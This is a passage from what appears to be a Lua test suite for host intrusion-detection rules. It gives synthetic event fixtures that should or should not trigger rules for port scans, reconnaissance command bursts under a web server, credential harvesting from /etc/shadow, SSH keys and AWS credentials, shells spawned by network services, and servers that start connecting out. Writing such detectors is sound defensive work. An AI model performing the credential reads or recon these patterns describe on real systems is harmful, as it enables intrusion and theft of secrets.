      for p = 1, 16 do evs[p] = { type = "connect", comm = "x", tgid = 30, dest_ip = "10.0.0.5", dest_port = 1000 + p, ret = -111, timestamp = 1735689600 + p } end
      return evs
    end)() } },
  { "discovery_burst", stateful = true,
    fires = (function()
      local evs = {}
      for i, c in ipairs({ "id", "whoami", "uname", "hostname", "ip", "ps" }) do
        evs[i] = exec("/usr/bin/" .. c, { c }, { tgid = 40 + i, ppid = 40, parent = { comm = "sh", tgid = 40 }, ancestors = { { comm = "sh" }, { comm = "apache2" } } })
      end
      return evs
    end)(),
    misses = { (function()
      local evs = {}
      for i, c in ipairs({ "id", "whoami", "uname", "hostname", "ip", "id" }) do
        evs[i] = exec("/usr/bin/" .. c, { c }, { tgid = 40 + i, ppid = 40, parent = { comm = "sh", tgid = 40 }, ancestors = { { comm = "sh" }, { comm = "apache2" } } })
      end
      return evs
    end)(), (function()
      local evs = {}
      for i, c in ipairs({ "id", "whoami", "uname", "hostname", "ip", "ps" }) do
        evs[i] = exec("/usr/bin/" .. c, { c }, { tgid = 40 + i, ppid = 40, parent = { comm = "sh", tgid = 40 }, ancestors = { { comm = "sh" }, { comm = "make" } } })
      end
      return evs
    end)() } },
  { "credential_harvest", stateful = true,
    fires = { open("python3", "/etc/shadow", 0, { tgid = 50 }), open("python3", "/root/.ssh/id_rsa", 0, { tgid = 50 }),
      open("python3", "/root/.aws/credentials", 0, { tgid = 50 }) },
    misses = { { open("python3", "/etc/shadow", 0, { tgid = 50 }), open("python3", "/root/.ssh/id_rsa", 0, { tgid = 50 }),
      open("python3", "/root/.ssh/id_ed25519", 0, { tgid = 50 }) },
      { open("python3", "/etc/shadow", 0, { tgid = 50 }), open("python3", "/root/.ssh/id_rsa", 0, { tgid = 51 }),
        open("python3", "/root/.aws/credentials", 0, { tgid = 52 }) } } },
  { "shell_under_network_service", stateful = true,
    fires = { exec("/bin/sh", { "sh" }, { tgid = 60, parent = { comm = "python3" }, ancestors = { { comm = "python3" }, { comm = "uwsgi" } } }) },
    misses = { { exec("/bin/sh", { "sh" }, { tgid = 60, parent = { comm = "python3" }, ancestors = { { comm = "python3" }, { comm = "sshd" } } }) },
      { exec("/bin/sh", { "sh" }, { tgid = 60, parent = { comm = "nginx" } }) },
      -- the service's direct child is marked: its shells are not reported
      { exec("/bin/sh", { "sh" }, { tgid = 60, parent = { comm = "nginx" }, ancestors = { { comm = "nginx" } } }),
        exec("/bin/bash", { "bash" }, { tgid = 61, ppid = 60, parent = { comm = "sh" },
          ancestors = { { comm = "sh" }, { comm = "nginx" } } }) },
      -- a login shell's: no service among the ancestors
      { exec("/bin/bash", { "bash" }, { tgid = 63, parent = { comm = "sshd" }, ancestors = { { comm = "sshd" }, { comm = "sshd" }, { comm = "systemd" } } }) } } },
  { "server_starts_connecting_out", stateful = true,
    fires = { { type = "listen", comm = "app", tgid = 70, call = "listen", local_ip = "0.0.0.0", local_port = 8080, backlog = 128, sock_type = "stream", ret = 0, timestamp = 1735689600 },
      { type = "connect", comm = "app", tgid = 70, dest_ip = "203.0.113.9", dest_port = 443, ret = 0, timestamp = 1735689600 + 3600 } },
    misses = { { { type = "listen", comm = "app", tgid = 70, call = "listen", local_ip = "0.0.0.0", local_port = 8080, backlog = 128, sock_type = "stream", ret = 0, timestamp = 1735689600 },
      { type = "connect", comm = "app", tgid = 70, dest_ip = "203.0.113.9", dest_port = 443, ret = 0, timestamp = 1735689600 + 60 },
      { type = "connect", comm = "app", tgid = 70, dest_ip = "203.0.113.10", dest_port = 443, ret = 0, timestamp = 1735689600 + 3600 } } } },
}
